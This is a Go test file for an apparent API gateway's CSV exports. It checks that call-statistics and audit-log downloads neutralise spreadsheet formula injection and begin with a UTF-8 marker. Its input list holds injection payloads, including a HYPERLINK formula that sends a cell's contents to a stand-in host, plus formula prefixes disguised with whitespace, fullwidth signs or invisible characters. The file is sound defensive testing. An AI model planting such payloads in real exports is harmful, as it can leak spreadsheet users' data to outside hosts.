package console

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"callgate/internal/audit"
	"callgate/internal/stats"
)

// asSpreadsheets reads a file that must say that it is UTF-8, and gives its lines below the headings.
func asSpreadsheets(t *testing.T, file []byte, headings []string) [][]string {
	t.Helper()
	text, marked := bytes.CutPrefix(file, []byte("\xef\xbb\xbf"))
	lines, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
	if err != nil || !marked || bytes.Contains(text, []byte("\ufeff")) || len(lines) == 0 || !slices.Equal(lines[0], headings) {
		t.Fatalf("%q %v", file, err)
	}
	return lines[1:]
}

// TestNoCellOfAnExportIsAFormula in any column: the upstream's model is often what the caller wrote.
func TestNoCellOfAnExportIsAFormula(t *testing.T) {
	for _, evil := range []string{
		`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\n", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1", "\u00a0=1", "\u200b=1", "\x00=1",
	} {
		var c stats.Call
		c.Model, c.UpstreamModel, c.EndedBy, c.UsageState = evil, evil, evil, evil
		c.Reason = &stats.FailureReason{Type: evil, Code: evil, Message: &evil}
		var r audit.Row
		r.Actor, r.Action, r.TargetType, r.TargetID, r.TargetName = evil, evil, evil, evil, evil
		entry, err := auditLine(r)
		if err != nil {
			t.Fatal(err)
		}
		for _, file := range []struct {
			headings, line []string
			evil           int
		}{{CallColumns, exportLine(c), 7}, {auditHeader, entry, 5}} {
			var out bytes.Buffer
			s, err := newSheet(&out, file.headings)
			if err != nil {
				t.Fatal(err)
			}
			if out.Len() != 0 {
				t.Error("something is sent before there is a line")
			}
			if err := s.line(file.line); err != nil {
				t.Fatal(err)
			}
			if err := s.flush(); err != nil {
				t.Fatal(err)
			}
			cells := asSpreadsheets(t, out.Bytes(), file.headings)[0]
			quoted := 0
			for _, cell := range cells {
				if strings.HasPrefix(cell, "'") {
					quoted++
				}
			}
			if quoted != file.evil {
				t.Errorf("%q: %d cells are quoted of %q", evil, quoted, cells)
			}
		}
	}
	for _, plain := range []string{"", "gpt-5", "a=b", "余额不足", " words", "1-2", "'=1", `{"a":"=1"}`} {
		if got := noFormula(plain); got != plain {
			t.Errorf("%q became %q", plain, got)
		}
	}
}

// TestDownloadsSayThatTheyAreUTF8, also those without a line, and those of a second reader of the same headings.
func TestDownloadsSayThatTheyAreUTF8(t *testing.T) {
	w := newWatcher(t)
	sameDay(t, w)
	w.seed("gpt")
	ada := w.developer("ada")
	app := w.application(ada, "app")
	calls := "/api/statistics/applications/" + app + "/calls.csv"
	for range 2 {
		if lines := asSpreadsheets(t, []byte(textOf(t, ada, calls)), CallColumns); len(lines) != 0 {
			t.Errorf("%q", lines)
		}
		if lines := asSpreadsheets(t, []byte(textOf(t, w.admin, "/api/admin/audit.csv?actor=nobody")), auditHeader); len(lines) != 0 {
			t.Errorf("%q", lines)
		}
	}
}
